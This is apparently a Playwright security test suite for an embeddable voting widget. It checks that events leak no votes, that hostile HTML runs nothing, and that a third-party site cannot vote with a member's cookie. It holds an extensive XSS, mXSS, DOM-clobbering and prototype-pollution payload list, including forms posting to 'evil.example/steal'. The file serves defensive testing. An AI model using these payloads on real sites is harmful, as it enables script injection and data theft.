// What a widget never does, whatever it is sent: run something, go somewhere, tell something.
import { expect, type Locator, type Page } from '@playwright/test';
import { links } from './harness/demo.ts';
import { REFUSED, UNREACHED } from './harness/trouble.ts';
import { awake, hold, MODULE, painted } from './harness/waking.ts';
import { element, hostPage, policy } from './harness/website.ts';
import { Widget } from './harness/widget.ts';
import { door, fragmentOf, listen, spoil, test, word } from './robust.ts';

/* Events. */

test('no event of a widget says what somebody chose, wrote or keeps', async ({ group, page, trouble }) => {
  trouble.expect(REFUSED, UNREACHED);
  await group.ask('proposal', 'door', { ...door, reasons: 'required' });
  const heard = await listen(page);
  const codes: string[] = [];
  page.on('response', async (response) => {
    const code = /"ballot":"([^"]+)"/.exec(await response.text().catch(() => ''))?.[1];
    if (code) codes.push(code);
  });
  await hostPage(page, { body: element(group, 'proposal', 'door') });
  const host = page.locator('porchlight-proposal');
  await awake(host);
  const proposal = new Widget(host);
  const disagree = word(proposal, 'disagree');
  await proposal.answer(disagree).check();
  await proposal.send.click();
  await expect(proposal.refused('refusal-reason-missing')).toBeVisible();
  await proposal.reason.fill('SENTINEL in my own words');
  await page.route('**/v1/**', (route) => route.abort());
  await proposal.send.click();
  await expect(proposal.refused('refusal-line-cut').filter({ visible: true })).toBeVisible();
  await page.unroute('**/v1/**');
  await proposal.send.click();
  await expect(proposal.counted(disagree)).toBeVisible();
  await proposal.again.click();
  await proposal.answer(word(proposal, 'abstain')).check();
  await proposal.send.click();
  await expect(proposal.changed(word(proposal, 'abstain'))).toBeVisible();

  const events = await heard();
  const fine = { bubbles: true, composed: true };
  expect(events).toEqual([
    { name: 'ready', detail: { phase: 'painted' }, ...fine, cancelable: false },
    { name: 'ready', detail: { phase: 'awake' }, ...fine, cancelable: false },
    { name: 'submit', detail: null, ...fine, cancelable: true },
    { name: 'submit', detail: null, ...fine, cancelable: true },
    { name: 'error', detail: { code: 'refusal-line-cut' }, ...fine, cancelable: false },
    { name: 'submit', detail: null, ...fine, cancelable: true },
    { name: 'change', detail: null, ...fine, cancelable: false },
    { name: 'submit', detail: null, ...fine, cancelable: true },
    { name: 'change', detail: null, ...fine, cancelable: false },
  ]);
  const all = JSON.stringify(events);
  expect(codes.length).toBeGreaterThan(0);
  for (const secret of [...codes, 'SENTINEL', 'disagree', 'abstain', group.slug]) expect(all).not.toContain(secret);
});

for (const phase of ['awake', 'asleep'] as const)
  test(`a website can hold an answer back, and nothing of it is lost (${phase})`, async ({ group, page }) => {
    if (phase === 'asleep') await hold(page, MODULE);
    await hostPage(page, { body: element(group, 'proposal', 'door') });
    const host = page.locator('porchlight-proposal');
    await (phase === 'awake' ? awake(host) : painted(host));
    let posts = 0;
    page.on('request', (request) => request.method() === 'POST' && posts++);
    await page.evaluate(() => {
      const ours = globalThis as { held?: number; hold?: (event: Event) => void };
      ours.held = 0;
      ours.hold = (event) => (event.preventDefault(), ours.held!++);
      addEventListener('porchlight-submit', ours.hold);
    });
    const proposal = new Widget(host);
    const agree = word(proposal, 'agree');
    await proposal.answer(agree).check();
    await proposal.reason.fill('Green');
    await proposal.send.click();
    await expect.poll(() => page.evaluate(() => (globalThis as { held?: number }).held)).toBe(1);
    await proposal.send.click();
    await expect.poll(() => page.evaluate(() => (globalThis as { held?: number }).held)).toBe(2);
    expect(posts).toBe(0);
    await expect(proposal.reason).toHaveValue('Green');
    await expect(proposal.answer(agree)).toBeChecked();
    await page.evaluate(() => removeEventListener('porchlight-submit', (globalThis as unknown as { hold: (event: Event) => void }).hold));
    await proposal.send.click();
    await expect(proposal.counted(agree)).toBeVisible();
    expect(posts).toBe(1);
    expect(await group.counts('proposal', 'door')).toMatchObject({ agree: 1 });
  });

/* Hostile fragments. */

const EVIL = 'https://evil.example';
/** Runs when something runs. */
const RAN = 'top.ran=1;alert(1)';

/** What somebody who can write a fragment would try; each within the mount. */
const HOSTILE: Record<string, string> = {
  script: `<script>${RAN}</script><script src="${EVIL}/a.js"></script><script type="module">${RAN}</script>`,
  handlers: `<img src="${EVIL}/a.png" onerror="${RAN}"><p onclick="${RAN}" onpointerover="${RAN}" onfocus="${RAN}" tabindex="0" autofocus>x</p><details open ontoggle="${RAN}"><summary>x</summary></details><input onfocus="${RAN}" autofocus>`,
  pictures: `<picture><source srcset="${EVIL}/a.png"><img srcset="${EVIL}/b.png 1x"></picture><video src="${EVIL}/a.mp4" poster="${EVIL}/c.png" autoplay></video><audio src="${EVIL}/a.mp3" autoplay></audio><input type="image" src="${EVIL}/d.png">`,
  svg: `<svg onload="${RAN}"><script>${RAN}</script><image href="${EVIL}/a.png" xlink:href="${EVIL}/a.png"/><use href="${EVIL}/a.svg#x"/><a xlink:href="javascript:${RAN}" href="javascript:${RAN}"><rect width="100" height="100"/></a><animate attributeName="href" values="javascript:${RAN}"/><set attributeName="onclick" to="${RAN}"/><foreignObject><img src=x onerror="${RAN}"></foreignObject><style>@import "${EVIL}/a.css"</style></svg>`,
  frames: `<iframe src="${EVIL}"></iframe><iframe srcdoc="<script>${RAN}</script>"></iframe><object data="${EVIL}/a.swf"></object><embed src="${EVIL}/a.swf"><portal src="${EVIL}"></portal><fencedframe></fencedframe><frameset><frame src="${EVIL}"></frameset>`,
  links: `<a id="js" href="javascript:${RAN}">x</a><a href=" java&#10;script:${RAN}">x</a><a href="data:text/html,<script>${RAN}</script>">x</a><a href="vbscript:x">x</a><a href="https://good.example" ping="${EVIL}/ping">x</a><a href="blob:${EVIL}/1">x</a>`,
  forms: `<form action="${EVIL}/steal" method="post"><input name="choice" value="x"><button id="go" formaction="${EVIL}/steal2">x</button><button formaction="javascript:${RAN}">x</button></form><isindex action="${EVIL}">`,
  styles: `<style>* { background: url(${EVIL}/a.png) }</style><link rel="stylesheet" href="${EVIL}/a.css"><link rel="preload" as="image" href="${EVIL}/b.png"><link rel="prefetch" href="${EVIL}"><p style="background:url(${EVIL}/c.png);position:fixed;inset:0">x</p><table background="${EVIL}/d.png"><tr><td background="${EVIL}/e.png">x</td></tr></table><body background="${EVIL}/f.png">`,
  metas: `<meta http-equiv="refresh" content="0;url=${EVIL}"><base href="${EVIL}/"><meta name="referrer" content="unsafe-url"><meta http-equiv="Content-Security-Policy" content="script-src *">`,
  templates: `<template shadowrootmode="open"><script>${RAN}</script><img src=x onerror="${RAN}"></template><div><template shadowrootmode="open"><slot></slot><img src="${EVIL}/a.png"></template>x</div><slot name="x"></slot><template><img src=x onerror="${RAN}"></template>`,
  math: `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RAN}&gt;"></mglyph></table></mtext><maction actiontype="statusline" xlink:href="javascript:${RAN}">x</maction><annotation-xml encoding="text/html"><img src=x onerror="${RAN}"></annotation-xml></math>`,
  mutation: `<noscript><p title="</noscript><img src=x onerror=${RAN}>"></noscript><xmp><p title="</xmp><img src=x onerror=${RAN}>"></xmp><svg></p><style><a id="</style><img src=1 onerror=${RAN}>"></svg><listing>&lt;img src=1 onerror=${RAN}&gt;</listing><plaintext><img src=x onerror="${RAN}">`,
  clobbering: `<form id="attributes"><input name="attributes"><input name="attributes"><input name="childNodes"><input id="localName"><input name="querySelector"><input name="elements"><input name="submit"><button id="send2" onclick="${RAN}">x</button></form>`,
  names: `<input name="querySelector"><input name="attributes"><img name="currentScript"><a id="trustedTypes"></a><a id="porchlight"></a>`,
  components: `<porchlight-poll src="${EVIL}/a/poll/b"></porchlight-poll><x-evil></x-evil><p is="x-evil">x</p><button popovertarget="p" commandfor="p" command="show-modal">x</button><dialog id="p" open>x</dialog><p popover id="p2" contenteditable draggable="true">x</p>`,
  comments: `<!--><img src=x onerror="${RAN}">--><!--[if IE]><script>${RAN}</script><![endif]--><?xml-stylesheet href="${EVIL}/a.css"?><![CDATA[<img src=x onerror="${RAN}">]]>`,
};

/** Whole answers in place of a fragment. */
const ANSWERS: Record<string, (text: string) => string> = {
  'a module from elsewhere': (text) => text.replace(/data-wake="[^"]*"/, `data-wake="${EVIL}/a.js"`),
  'a module that is no file of ours': (text) => text.replace(/data-wake="[^"]*"/, `data-wake="data:text/javascript,${encodeURIComponent(RAN)}"`),
  'a module of ours outside the files': (text) => text.replace(/data-wake="[^"]*"/, 'data-wake="/assets/../porchlight.js"'),
  'WebAssembly from elsewhere': (text) => text.replace(/data-wasm="[^"]*"/, `data-wasm="${EVIL}/a.wasm"`),
  'a style sheet from elsewhere': (text) => text.replace(/data-sheet="[^"]*"/, `data-sheet="//evil.example/a.css"`),
  'messages from elsewhere': (text) => text.replaceAll(/data-messages="[^"]*"/g, `data-messages="${EVIL}/a.ftl"`),
  'a mount that is a script': (text) => text.replace('<div data-porchlight', `<script>${RAN}</script><script data-porchlight`).replace(/<\/div>\s*<script type/, '</script><script type'),
  'a mount that is a frame': () => `<iframe data-porchlight="poll" srcdoc="<script>${RAN}</script>"></iframe><script type="application/json">{"view":{}}</script>`,
  'a mount that is a picture': () => `<svg data-porchlight="poll" onload="${RAN}"></svg><script type="application/json">{"view":{}}</script>`,
  'a scene that is none': (text) => text.replace(/(<script type="application\/json">).*(<\/script>)/s, '$1null$2'),
  'a scene that reaches for prototypes': (text) => text.replace('{"view":{', '{"__proto__":{"shell":1},"view":{"__proto__":{"key":"x"},"constructor":{"prototype":{"polluted":1}},'),
  'a scene whose links run': (text) =>
    text
      .replace(/"about":\{"en":\[/, `$&{"p":[{"a":{"to":"javascript:${RAN}","words":[{"t":"Press"}]}}]},`)
      .replace(/"(page|join|action)":"[^"]*"/g, `"$1":"javascript:${RAN}"`)
      .replace(/data-elements="\d+"/, 'data-elements="0"'),
  'no elements': () => '<p>Hello</p>',
  'a page of somebody else': () => `<!doctype html><html><head><base href="${EVIL}"><script>${RAN}</script></head><body onload="${RAN}"><img src="${EVIL}/a.png"></body></html>`,
  'very much': (text) => text.replace('<fieldset', `${'<p><b><i onclick="alert(1)">x</i></b></p>'.repeat(20_000)}<fieldset`),
  'very deep': (text) => text.replace('<fieldset', `${'<div>'.repeat(5_000)}<img src=x onerror="${RAN}">${'</div>'.repeat(5_000)}<fieldset`),
};

/** Notes everything that a page does which it should not. */
function watch(page: Page): string[] {
  const seen: string[] = [];
  page.on('dialog', (dialog) => (seen.push(`dialog: ${dialog.message()}`), void dialog.dismiss()));
  page.on('request', (request) => {
    const { origin } = new URL(request.url());
    if (![links.porchlight, links.site].includes(origin) && !request.url().startsWith('data:,')) seen.push(`request: ${request.url().slice(0, 200)}`);
    if (request.isNavigationRequest() && request.frame() !== page.mainFrame()) seen.push(`frame: ${request.url()}`);
    if (request.method() === 'POST' && new URL(request.url()).origin === links.site) seen.push('posted to the site');
  });
  page.on('popup', (popup) => seen.push(`popup: ${popup.url()}`));
  page.on('frameattached', () => seen.push('a frame'));
  return seen;
}

/** Whether anything ran, and whether every element and attribute is one that a widget may have. */
async function admitted(page: Page): Promise<{ ran: boolean; found: string[] }> {
  return page.evaluate(() => {
    const elements =
      /^(a|abbr|article|aside|b|bdi|blockquote|br|button|caption|code|col|colgroup|dd|del|details|div|dl|dt|em|fieldset|footer|form|h[1-6]|header|hr|i|input|ins|label|legend|li|mark|nav|ol|optgroup|option|output|p|pre|s|section|select|small|span|strong|sub|summary|sup|table|tbody|td|textarea|tfoot|th|thead|time|tr|ul|svg|g|path|rect|circle|line)$/;
    const attributes =
      /^((aria|data)-[\w-]+|action|formaction|href|autocomplete|autofocus|checked|class|cols|colspan|datetime|dir|disabled|download|for|form|formnovalidate|headers|hidden|hreflang|id|inputmode|label|lang|maxlength|max|method|min|minlength|multiple|name|novalidate|open|part|pattern|placeholder|readonly|rel|required|role|rows|rowspan|scope|selected|spellcheck|start|step|tabindex|target|title|translate|type|value|viewBox|preserveAspectRatio|width|height|x|y|x1|x2|y1|y2|cx|cy|r|rx|ry|d)$/;
    const found: string[] = [];
    const attributesOf = Object.getOwnPropertyDescriptor(Element.prototype, 'attributes')!.get!;
    for (const host of document.querySelectorAll('*')) {
      const root = host.shadowRoot;
      if (!root) continue;
      // A form's own properties can be hidden by its fields' names: this asks past them.
      const walk = document.createTreeWalker(root, NodeFilter.SHOW_ELEMENT);
      while (walk.nextNode()) {
        const each = walk.currentNode as Element;
        const name = each instanceof HTMLFormElement ? 'form' : each.localName;
        if (name !== 'slot' && !elements.test(name)) found.push(`<${name}>`);
        for (const { name, value } of attributesOf.call(each) as NamedNodeMap) {
          if (!attributes.test(name)) found.push(`${name}="${value.slice(0, 60)}"`);
          const to = /^(href|action|formaction)$/.test(name);
          if (to && !/^(https?:|mailto:|tel:|$)/.test(value)) found.push(`${name}="${value.slice(0, 60)}"`);
          if (/action$/.test(name) && value.includes('evil')) found.push(`${name}="${value}"`);
        }
      }
    }
    return { ran: 'ran' in globalThis || 'polluted' in {}, found };
  });
}

/** Presses whatever can be pressed but links to elsewhere, and wanders over everything. */
async function press(host: Locator): Promise<void> {
  await host.evaluate(async (host) => {
    for (const each of host.shadowRoot?.querySelectorAll<HTMLElement>('a, button, summary, input, p, svg *') ?? []) {
      if (/^https?:|^mailto:|^tel:/.test(each.getAttribute('href') ?? '')) continue;
      for (const name of ['pointerover', 'pointerdown', 'focus', 'click']) each.dispatchEvent(new MouseEvent(name, { bubbles: true, composed: true, cancelable: true }));
    }
    await new Promise((done) => requestAnimationFrame(() => setTimeout(done)));
  });
}

for (const [dress, csp] of [['strict site', policy()], ['site without a policy', false]] as const)
  test(`a_hostile_fragment_runs_nothing (${dress})`, async ({ group, page, trouble }) => {
    test.slow();
    // What is refused may be said in the console; what must not happen is watched below.
    trouble.expect(/./);
    const seen = watch(page);
    await page.addInitScript(() => {
      const tell = (event: Event): void => {
        const { phase, code } = (event as CustomEvent<{ phase?: string; code?: string }>).detail;
        console.log(`widget: ${phase ?? code}`);
      };
      addEventListener('porchlight-ready', tell);
      addEventListener('porchlight-error', tell);
    });
    const told = (what: RegExp): Promise<unknown> => page.waitForEvent('console', (message) => what.test(message.text()));
    const changes = {
      ...ANSWERS,
      ...Object.fromEntries(Object.entries(HOSTILE).map(([name, html]) => [`${name} in the mount`, (text: string) => text.replace('<article', `${html}<article`)])),
      ...Object.fromEntries(Object.entries(HOSTILE).map(([name, html]) => [`${name} in the form`, (text: string) => text.replace('<fieldset', `${html}<fieldset`)])),
    };
    for (const [name, change] of Object.entries(changes))
      await test.step(name, async () => {
        await page.unrouteAll({ behavior: 'ignoreErrors' });
        await spoil(page, fragmentOf('door'), change);
        const release = await hold(page, MODULE);
        const arrived = told(/^widget: /);
        const settled = told(/^widget: (awake|asleep|forbidden|line-cut)/);
        await hostPage(page, { body: element(group, 'proposal', 'door'), csp });
        const host = page.locator('porchlight-proposal');
        const check = async (): Promise<void> => {
          expect(await admitted(page)).toEqual({ ran: false, found: [] });
          await press(host);
          expect(await admitted(page)).toEqual({ ran: false, found: [] });
          expect(seen).toEqual([]);
          expect(page.url().startsWith(links.site)).toBe(true);
        };
        // As it came; and once it has woken, or never will.
        await arrived;
        await check();
        release();
        await settled;
        await check();
        // Something is there for the reader.
        await expect(host.getByRole('article').or(host.getByRole('link', { name: 'Answer here' })).first()).toBeVisible();
      });
  });

/** Numbers that look random and are the same every time (mulberry32). */
function dice(seed: number): (sides: number) => number {
  return (sides) => {
    seed = (seed + 0x6d2b79f5) | 0;
    let t = Math.imul(seed ^ (seed >>> 15), 1 | seed);
    t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t;
    return ((t ^ (t >>> 14)) >>> 0) % sides;
  };
}

const TAGS_OF_ALL_KINDS =
  'a abbr address applet area article audio b base bdo blink body button canvas center circle col colgroup custom-thing data datalist defs desc details dialog div embed fieldset filter font footer foreignObject form frame frameset g h1 head header hr html iframe image img input isindex keygen label legend li link listing map marquee math menu meta meter mglyph mi mtext nav nobr noembed noscript object ol optgroup option output p param path picture portal pre progress q rect rp rt ruby script search section select slot source span style sub summary svg switch table tbody td template textarea tfoot th thead title tr track u ul use var video wbr xmp animate set'.split(' ');
const ATTRIBUTES_OF_ALL_KINDS =
  'accesskey action align alt archive async autofocus autoplay background behavior cite class code codebase content contenteditable coords data data-x defer dir draggable dynsrc enterkeyhint exportparts for form formaction formenctype formmethod formtarget href http-equiv icon id inert integrity is itemprop lang longdesc loop lowsrc manifest name nonce onanimationend onbegin onblur onclick onerror onfocus onload onmouseover onpointerenter ontoggle part ping popover popovertarget poster profile rel sandbox shadowrootmode slot src srcdoc srclang srcset style tabindex target title type usemap value xlink:href xml:base xmlns aria-label'.split(' ');
const VALUES = [`javascript:${RAN}`, RAN, `${EVIL}/x`, `//evil.example/x`, `data:text/html,<script>${RAN}</script>`, 'x', '', '_top', 'attributes', 'childNodes', 'submit', 'open', `x" onclick="${RAN}`, `url(${EVIL}/x)`, 'https://good.example/'];

test('whatever markup comes, only what a widget may have gets into the page', async ({ page, trouble }) => {
  trouble.expect(/./);
  const roll = dice(2026);
  const one = <T>(of: readonly T[]): T => of[roll(of.length)]!;
  const quoted = (text: string): string => one([`"${text.replaceAll('"', '&quot;')}"`, `'${text.replaceAll("'", '&#39;')}'`, `"${text}"`, text.replaceAll(/[\s"'>]/g, '')]);
  const tree = (depth: number): string =>
    Array.from({ length: 1 + roll(4) }, () => {
      if (roll(6) === 0) return one(['words', '<!-- a note -->', '<!--[if x]>', ']]>', '&lt;img onerror=alert(1)&gt;', '<![CDATA[x]]>', '<?x?>', '-->', '</p>', '</svg>', '</form>', '\0']);
      const tag = one(TAGS_OF_ALL_KINDS);
      const attributes = Array.from({ length: roll(4) }, () => ` ${one(ATTRIBUTES_OF_ALL_KINDS)}=${quoted(one(VALUES))}`).join('');
      return `<${tag}${attributes}>${depth > 0 ? tree(depth - 1) : 'x'}${roll(8) ? `</${tag}>` : ''}`;
    }).join('');
  // Ends what would otherwise swallow the scene that comes after.
  const CLOSED = '</script></style></title></textarea></xmp></noframes></noembed></noscript></iframe>-->' + '</select></td></caption></table></object></marquee></applet></template></foreignObject></desc></svg></mtext></mi></math>'.repeat(6);
  const seen = watch(page);
  const COUNT = 300;
  const trees = Array.from({ length: COUNT }, () => tree(4));
  await page.route(/\/embed\/[^/]+\/poll\/fuzz-\d+/, (route) => {
    const at = Number(/fuzz-(\d+)/.exec(route.request().url())![1]);
    const body = `<aside data-porchlight="poll" data-lang="en" data-elements="0" data-wake="/assets/none.js" data-wasm="/assets/none.wasm" data-sheet="/assets/none.css" data-messages="/assets/none.ftl">${trees[at]}${CLOSED}</aside><script type="application/json">{"view":{}}</script>`;
    return route.fulfill({ headers: { 'access-control-allow-origin': '*' }, contentType: 'text/html', body });
  });
  await page.route('**/assets/none.*', (route) => route.abort());
  await hostPage(page, { body: '', csp: false });
  const { painted, refused } = await page.evaluate(
    async ([origin, count]) => {
      let [painted, refused] = [0, 0];
      await new Promise<void>((done) => {
        const settle = (): void => void (painted + refused === Number(count) && done());
        addEventListener('porchlight-ready', () => (painted++, settle()));
        addEventListener('porchlight-error', (event) => {
          const { code } = (event as CustomEvent<{ code: string }>).detail;
          if (code === 'forbidden' || code === 'line-cut') (refused++, settle());
        });
        for (let at = 0; at < Number(count); at++) {
          const poll = document.createElement('porchlight-poll') as HTMLElement & { src: string };
          poll.src = `${origin}/fuzz/poll/fuzz-${at}`;
          document.body.append(poll);
        }
      });
      return { painted, refused };
    },
    [links.porchlight, COUNT] as const,
  );
  // Where the parser found no scene after the mount, there was no fragment.
  expect(painted + refused).toBe(COUNT);
  expect(painted).toBeGreaterThan(COUNT / 2);
  expect(await admitted(page)).toEqual({ ran: false, found: [] });
  expect(seen).toEqual([]);
});

/* A member on somebody's website. */

test('a_listed_site_cannot_act_as_a_member', async ({ group, page, context, trouble }) => {
  trouble.expect(REFUSED, /CORS|Access-Control|ERR_FAILED|frame-ancestors|blocked/i);
  // Leila is a member on this device, and has voted on the group's own page.
  const invitation = await group.invite();
  await page.goto(invitation);
  await page.locator('input[name=name]').fill('Leila');
  await page.locator('[name=do][value=join]').click();
  await page.goto(group.page('proposal', 'garden'));
  const own = page.locator('main');
  await awake(own);
  await vote(new Widget(own));
  const before = await group.counts('proposal', 'garden');
  expect(before).toMatchObject({ agree: 1 });
  expect((await context.cookies(links.porchlight)).some(({ name }) => name.startsWith('__Host-porchlight-'))).toBe(true);

  // On the group's website, which is listed, the same proposal is what the public sees.
  const asked: Promise<Record<string, string>>[] = [];
  page.on('request', (request) => {
    if (request.url().startsWith(`${links.porchlight}/embed`)) asked.push(request.allHeaders());
  });
  await hostPage(page, { body: element(group, 'proposal', 'garden'), csp: false });
  const host = page.locator('porchlight-proposal');
  await awake(host);
  const embedded = new Widget(host);
  await expect(embedded.say('members-answer')).toBeVisible();
  await expect(embedded.send).toHaveCount(0);
  await expect(host.getByRole('radio')).toHaveCount(0);
  await expect(host.locator('.own')).toHaveCount(0);
  await expect(host.getByText('Leila')).toHaveCount(0);
  await expect(host.getByRole('link', { name: /./ }).last()).toHaveAttribute('href', new RegExp(`^${links.porchlight}/`));
  expect(asked.length).toBeGreaterThan(0);
  for (const headers of await Promise.all(asked)) expect(headers).not.toHaveProperty('cookie');

  // Its scripts try with her cookie.
  const tried = await page.evaluate(
    async ([origin, slug]) => {
      const key = (): string => crypto.randomUUID().replaceAll('-', '');
      const form = (): URLSearchParams => new URLSearchParams({ do: 'vote', choice: 'disagree', reason: 'x', key: key() });
      const paths = ['/v1/SLUG/proposal/garden', '/v1/SLUG/proposal/garden?dress=page', '/embed/SLUG/proposal/garden', '/embed/SLUG/proposal/garden?dress=page', '/SLUG/proposal/garden', '/frame/SLUG/proposal/garden', '/v1/SLUG', '/v1/SLUG/people', '/v1/SLUG/me'];
      const got: string[] = [];
      for (const path of paths.map((path) => origin + path.replace('SLUG', slug!)))
        for (const init of [
          { credentials: 'include' },
          { credentials: 'include', method: 'POST', body: form() },
          { credentials: 'include', method: 'POST', mode: 'no-cors', body: form() },
          { credentials: 'include', method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ do: 'vote', choice: ['disagree'], reason: 'x', key: key() }) },
          { credentials: 'omit', method: 'POST', body: form() },
        ] satisfies RequestInit[])
          try {
            const answer = await fetch(path, init);
            got.push(`${answer.status} ${await answer.text()}`);
          } catch {
            got.push('nothing');
          }
      // Forms and frames of its own.
      const frame = document.createElement('iframe');
      frame.name = 'theirs';
      document.body.append(frame);
      for (const path of ['/SLUG/proposal/garden', '/frame/SLUG/proposal/garden', '/v1/SLUG/proposal/garden?dress=page']) {
        const made = document.createElement('form');
        Object.assign(made, { method: 'post', action: origin + path.replace('SLUG', slug!), target: 'theirs' });
        for (const [name, value] of form()) made.append(Object.assign(document.createElement('input'), { name, value }));
        document.body.append(made);
        const loaded = new Promise((done) => frame.addEventListener('load', done, { once: true }));
        made.submit();
        await loaded;
      }
      return got;
    },
    [links.porchlight, group.slug] as const,
  );
  for (const answer of tried) {
    expect(answer).not.toContain('Leila');
    expect(answer).not.toMatch(/"own":\s*\{|class="own"/);
    expect(answer).not.toMatch(/"happened":"/);
  }
  expect(await group.counts('proposal', 'garden')).toEqual(before);
});

async function vote(proposal: Widget): Promise<void> {
  const agree = word(proposal, 'agree');
  await proposal.answer(agree).check();
  await proposal.send.click();
  await expect(proposal.counted(agree)).toBeVisible();
}
